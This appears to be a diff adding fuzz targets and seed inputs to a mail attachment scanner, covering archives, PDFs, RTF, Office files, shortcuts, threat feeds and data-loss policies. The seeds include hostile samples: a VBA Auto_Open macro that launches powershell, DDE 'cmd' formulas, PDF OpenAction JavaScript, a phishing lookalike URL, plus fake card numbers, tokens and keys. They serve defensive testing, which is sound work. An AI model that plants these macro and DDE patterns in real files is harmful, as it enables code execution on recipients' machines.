@@ -38,6 +38,60 @@ pub(crate) const TARGETS: &[Target] = &[
         run: inspect_file,
     },
     Target {
+        name: "unpack-archive",
+        what: "archives of all kinds, and what is in them",
+        seeds: ARCHIVES,
+        run: unpack_attachment,
+    },
+    Target {
+        name: "unpack-compound",
+        what: "old Office documents: compound file, macros, packaged files, records",
+        seeds: COMPOUNDS,
+        run: unpack_attachment,
+    },
+    Target {
+        name: "unpack-pdf",
+        what: "PDFs: objects, streams, actions, text",
+        seeds: PDFS,
+        run: unpack_attachment,
+    },
+    Target {
+        name: "unpack-rtf",
+        what: "RTF: fields, objects, templates",
+        seeds: RTFS,
+        run: unpack_attachment,
+    },
+    Target {
+        name: "unpack-page",
+        what: "pages, drawings, XML documents, tables and scripts that came as files",
+        seeds: PAGES,
+        run: unpack_attachment,
+    },
+    Target {
+        name: "unpack-launcher",
+        what: "shortcuts, notebooks, CD images, winmail.dat",
+        seeds: LAUNCHERS,
+        run: unpack_attachment,
+    },
+    Target {
+        name: "inspect-feed",
+        what: "lists of bad addresses: plain, URLhaus, MISP",
+        seeds: FEEDS,
+        run: inspect_feed,
+    },
+    Target {
+        name: "sensitive-policy",
+        what: "rules for sensitive content",
+        seeds: POLICIES,
+        run: sensitive_policy,
+    },
+    Target {
+        name: "exact-list",
+        what: "hashed values of an organisation, and text that is compared with them",
+        seeds: LISTS,
+        run: exact_list,
+    },
+    Target {
         name: "tenant-list",
         what: "a line of a list of tenants to be imported",
         seeds: &[
@@ -269,6 +323,59 @@ fn inspect_file(data: &[u8]) {
         for name in ["a.html", "a.csv", "a.txt", "a.bin"] {
             is_sane(&mailkeep_inspect::inspect_attachment(name, data, context));
         }
+    });
+}
+
+/// A file whose type its bytes tell, under names that bring every reader of text to it, too.
+fn unpack_attachment(data: &[u8]) {
+    with_context(|context| {
+        for name in ["a", "a.vba", "a.xml"] {
+            let verdict = mailkeep_inspect::inspect_attachment(name, data, context);
+            is_sane(&verdict);
+        }
+    });
+}
+
+fn inspect_feed(data: &[u8]) {
+    let mut feeds = mailkeep_inspect::Feeds::default();
+    feeds.plain("plain", data);
+    feeds.urlhaus("urlhaus", data);
+    let _ = feeds.misp("misp", data);
+    assert!(feeds.len() <= data.len());
+    with_context(|context| {
+        let context = context.with_feeds(&feeds);
+        is_sane(&mailkeep_inspect::inspect_text("https://a.example/x http://1.2.3.4", &context));
+    });
+}
+
+fn sensitive_policy(data: &[u8]) {
+    use mailkeep_inspect::policy::SensitivePolicy;
+    let text = String::from_utf8_lossy(data);
+    match SensitivePolicy::from_toml(&text) {
+        Ok(policy) => assert!(policy.rules().iter().all(|rule| rule.at_least() > 0)),
+        Err(error) => {
+            assert!((1..=text.matches('\n').count() + 1).contains(&error.line), "{error}")
+        }
+    }
+}
+
+fn exact_list(data: &[u8]) {
+    use mailkeep_inspect::{Dictionary, ExactList, HashedValue, MatchKey};
+    let text = String::from_utf8_lossy(data);
+    let _ = text.parse::<HashedValue>();
+    let key = MatchKey::from_bytes([9; 32]);
+    // What was hashed is found again, however it is surrounded.
+    let (first, _) = text.split_once('\n').unwrap_or((&text, ""));
+    let hashed = key.hash(first);
+    let lists: Vec<ExactList> = hashed
+        .into_iter()
+        .map(|value| ExactList::new("l", key.clone(), [vec![value]]).expect("one record is even"))
+        .collect();
+    let phrases = text.lines().map(str::to_owned);
+    let dictionaries: Vec<Dictionary> = Dictionary::new("d", phrases, 2).into_iter().collect();
+    with_context(|context| {
+        let context = context.with_lists(&lists).with_dictionaries(&dictionaries);
+        is_sane(&mailkeep_inspect::inspect_text(&text, &context));
     });
 }
 
@@ -669,9 +776,84 @@ const MESSAGES: &[&[u8]] = &[
 ];
 
 const FILES: &[&[u8]] = &[
+    b"<style>.a{display:none}</style><form action=https://x.example><input type=password><b class=a>x</b>",
+    b"<img src='data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7'>",
+    "v\u{435}rify your account within 24 hours: https://paypal.com.evil.example/#ann@story.example".as_bytes(),
     b"name;card\nann;4111111111111111\n",
     b"<html><a href='http://user@evil.example'>story.example</a>",
     b"4111 1111 1111 1111 5500-0000-0000-0004",
+    b"name;IBAN\nann;DE43 1000 0000 0705 8161 65\nSSN 536-22-8726, TFN: 446 220 196",
+    "Passwort lautet Sommer-77. пароль: Zima2030 https://ann:k9XbT2mQ@db.example.com/".as_bytes(),
+    b"Authorization: Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJlLWlzLWhlcmU",
+    b"-----BEGIN PRIVATE KEY-----\nMC4CAQAwBQYDK2VwBCIEIA9ZbSdE8mG1xUq0\n-----END PRIVATE KEY-----",
+];
+
+/// Made for this purpose; none is older than this program.
+const ARCHIVES: &[&[u8]] = &[
+    include_bytes!("../seeds/archive.zip"),
+    include_bytes!("../seeds/lzma.zip"),
+    include_bytes!("../seeds/a.gz"),
+    include_bytes!("../seeds/a.bz2"),
+    include_bytes!("../seeds/a.xz"),
+    include_bytes!("../seeds/a.tar"),
+    include_bytes!("../seeds/a.7z"),
+    include_bytes!("../seeds/a.cab"),
+    b"Rar!\x1A\x07\0\xCF\x90\x73\0\0\x0D\0\0\0\0\0\0\0\0\0\x74\0\x80\x26\0\x02\0\0\0\x02\0\0\0\0\0\0\0\0\0\0\0\0\x14\x30\x06\0\0\0\0\0a.textMZ",
+    b"Rar!\x1A\x07\x01\0\0\0\0\0\x0C\x02\x02\x02\0\x02\0\0\0\x05a.txthi",
+    b"\x60\xEA\x22\0\x1E\x0B\x01\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0a.arj\0\0\0\0\0\0\0\0",
+    b"0707070000010000010000000000000000000000010000000000000000000000600000000005a.txt\0hello",
+    b"070701000000010000000000000000000000000000000100000000000000050000000000000000000000000000000000000006000000000a.txt\0hello\0\0\0",
+    b"SZDD\x88\xF0\x27\x33Aa\x05\0\0\0\xFFhello",
+    b"begin 644 a.txt\n%:&5L;&\\\n`\nend\n",
+    b"(This file must be converted with BinHex 4.0)\n\n:#@4P,R0[!'\"ZG'J:\n",
+];
+
+const COMPOUNDS: &[&[u8]] = &[include_bytes!("../seeds/macros.doc")];
+
+const PDFS: &[&[u8]] = &[
+    b"%PDF-1.4\n1 0 obj <</Type/Catalog/OpenAction 2 0 R/Names<</JavaScript 2 0 R>>>> endobj\n2 0 obj <</S/J#61vaScript/JS(app.alert\\050 1))>> endobj\n3 0 obj <</Type/Filespec/F(a.exe)/EF<</F 4 0 R>>>> endobj\n4 0 obj <</Type/EmbeddedFile/Length 2>> stream\nMZ\nendstream endobj\ntrailer<</Root 1 0 R>>\n%%EOF",
+    b"%PDF-1.5\n1 0 obj <</Type/Page/Contents[2 0 R]/Resources<</Font<</F 3 0 R>>>>>> endobj\n2 0 obj <</Filter/ASCIIHexDecode>> stream\n2F46203132205466205B283031292D3230302830312930205D20544A> endstream endobj\n3 0 obj <</Subtype/Type0/ToUnicode 4 0 R>> endobj\n4 0 obj <</Length 99>> stream\n1 beginbfrange <3031> <3039> <0041> endbfrange 1 beginbfchar <30> <0042> endbfchar\nendstream endobj",
+    b"%PDF-1.5\n1 0 obj <</Type/ObjStm/N 1/First 4/Filter[/ASCII85Decode/RunLengthDecode/LZWDecode]>> stream\n9jqo^BlbD-~>\nendstream endobj",
+    b"%PDF-1.5\n1 0 obj <</Subtype/Image/Width 16/Height 16/BitsPerComponent 1>> stream\n0123456789abcdef0123456789abcdef\nendstream endobj",
+];
+
+const RTFS: &[&[u8]] = &[
+    b"{\\rtf1{\\*\\template https://example.com/a.dotm}{\\field{\\*\\fldinst DDE{\\b AUTO} cmd x}}\\u233?\\'e9\\par}",
+    b"{\\rt{\\object\\objemb\\objupdate{\\*\\objdata 0105000002000000 08000000 5061636b61676500 0000000000000000 1a000000 0200612e65786500433a5c612e65786500 00000300 00000000\\bin3 MZA 4d5a}}}",
+];
+
+const PAGES: &[&[u8]] = &[
+    b"<html><meta http-equiv=refresh content='0;url=https://example.com'><script>var b=new Blob([atob('UEsDBBQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA')]);l.download='a.zip'</script>",
+    b"<svg onload='x'><script>1</script></svg>",
+    b"<?xml version='1.0'?><?mso-application progid=\"Word.Document\"?><w:p><w:instrText>DDEAUTO c x</w:instrText></w:p><Path>cmd|/c</Path><w:binData>TVoAAA==</w:binData>",
+    b"<?xml version='1.0'?><office:document xmlns:office='urn:oasis:names:tc:opendocument:x'><office:body><a href='javascript:1'>x</a><dde-source dde-application='c'/></office:body></office:document>",
+    b"ID;PX\nO;E\nNN;NAuto_open;ER1C1\nC;X1;Y1;ECMD|'/c'!A0\n",
+    b"a;b\n=cmd|'/c calc'!A0;1\n",
+    b"Sub Auto_Open()\nCreateObject(\"WScript.Shell\").Run \"powershell\"\nEnd Sub",
+];
+
+const LAUNCHERS: &[&[u8]] = &[
+    b"L\0\0\0\x01\x14\x02\0\0\0\0\0\xC0\0\0\0\0\0\0\x46\xA4\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\x01\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\x02\0a\0b\0\x03\0-\0c\0x\0",
+    b"[InternetShortcut]\nURL=file://example.com/a.exe\n",
+    b"\xE4\x52\x5C\x7B\x8C\xD8\xA7\x4D\xAE\xB1\x53\x78\xD0\x29\x96\xD3\xE7\x16\xE3\xBD\x65\x26\x11\x45\xA4\xC4\x8D\x4D\x0B\x7A\x9E\xAC\x02\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0MZa\0.\0e\0x\0e\0",
+    b"\x78\x9F\x3E\x22\x01\0\x01\x0F\x80\x06\0\x02\0\0\0MZ\0\0\x01\x10\x80\x01\0\x06\0\0\0a.exe\0\0\0",
+];
+
+const FEEDS: &[&[u8]] = &[
+    b"# comment\nhttps://a.example/x\nhxxp://b[.]example/y # seen\nc.example\n1.2.3.4\n",
+    b"\"1\",\"2026-01-01 00:00:00\",\"http://d.example/z\",\"online\"\r\n",
+    br#"{"response":[{"Event":{"Attribute":[{"type":"domain","value":"e.example","to_ids":true}]}}]}"#,
+];
+
+const POLICIES: &[&[u8]] = &[
+    b"[[sensitive]]\nname = \"a\"\nentities = [\"IBAN_CODE\", \"SECRET_*\"]\ndirection = \"outward\"\nat_least = 3\naction = \"warn\"\n[[sensitive.except]]\nto = [\"*@bank.example\"]\n",
+    b"[[sensitive]]\nname = \"\xc3\xa9\"\nseverity = \"low\"\naction = \"log\"\n",
+];
+
+const LISTS: &[&[u8]] = &[
+    b"kd 44 120 77\ne0815x",
+    "Quentin É. Example; 1961-04-09, 極秘".as_bytes(),
+    b"0123456789abcdef0123456789abcdef012345",
 ];
 
 const MBOXES: &[&[u8]] = &[
